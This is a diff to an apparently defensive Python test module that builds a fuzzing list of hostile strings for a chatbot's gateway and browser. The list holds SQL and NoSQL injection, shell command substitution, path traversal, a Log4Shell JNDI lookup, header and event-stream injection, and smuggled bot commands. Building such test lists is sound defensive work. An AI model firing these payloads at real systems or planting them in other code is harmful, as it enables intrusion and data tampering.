@@ -1,7 +1,6 @@
-"""Over 300 strings that try to become markup, script, a request or a command: for every place that shows visitors' text.
+"""Over 400 strings that try to become markup, script, a query, a request or a command: one list for gateway and browser.
 
-`HOSTILE` has no leading or trailing white space and no carriage returns, so that what a text field gives back is what was put in.
-Requests would go to a name that exists nowhere (RFC 2606).
+Requests would go to a name that exists nowhere (RFC 2606). `TYPED` is what a text field gives back and the chat sends of them.
 """
 
 from __future__ import annotations
@@ -126,20 +125,34 @@ _COMMANDS = [
     "/restart",
     "/session_start",
     "/back",
-    '/show{"article": "startup-visa/overview"}',
+    "/greet",
+    "/capabilities",
+    "/none_of_these",
+    "/talk_to_person",
+    '/show{"article": "yoxo-box/place"}',
+    '/switch_language{"to": "en"}',
     '/handoff{"x": "y"}',
-    "／restart",
-    "EXTERNAL: x",
-    "ＥＸＴＥＲＮＡＬ：x",
+    "EXTERNAL: action_hand_off",
+    "EXTERNAL: talk_to_person",
+]
+_BEFORE_COMMANDS = ["", " ", "\t", "\u3000", "\n", "//", "\u200b", "\ufeff", "\u202e", "\\", "YOXO BOXはどこ？"]
+
+_QUERIES = [
     "'; DROP TABLE turns; --",
     "' OR '1'='1",
+    "' OR 1=1 --",
     '" OR ""="',
     "1; SELECT pg_sleep(10)",
+    '{"$gt": ""}',
     "$(touch x)",
     "`id`",
+    "%00",
     "../../../../etc/hostname",
     "${jndi:ldap://x/a}",
     "a\nSet-Cookie: x=1",
+    "\r\nSet-Cookie: a=b",
+    "data: x\n\nevent: message\n",
+    "id: 99\n\n",
     "*)(uid=*))(|(uid=*",
     '{"button": "t0"}',
     '{"text": "x", "author": "staff"}',
@@ -155,6 +168,11 @@ _HANDLERS = [
     ).split()
 ]
 
+
+def _wide(text: str) -> str:
+    return "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in text)
+
+
 HOSTILE: list[str] = list(
     dict.fromkeys(
         [
@@ -163,8 +181,13 @@ HOSTILE: list[str] = list(
             *_ADDRESSES,
             *(f'<a href="{address}">x</a>' for address in _ADDRESSES),
             *_TEMPLATES,
-            *_COMMANDS,
+            *(before + command for before, command in itertools.product(_BEFORE_COMMANDS, _COMMANDS)),
+            *map(_wide, _COMMANDS),
+            *_QUERIES,
+            *(f"YOXO BOXはどこ？{query}" for query in _QUERIES),
             *_HANDLERS,
         ]
     )
 )
+# A field knows one kind of line break; the chat leaves out white space around a message, as String.trim() counts it.
+TYPED: list[str] = list(dict.fromkeys(text.replace("\r\n", "\n").strip(" \t\n\u3000\ufeff") for text in HOSTILE))
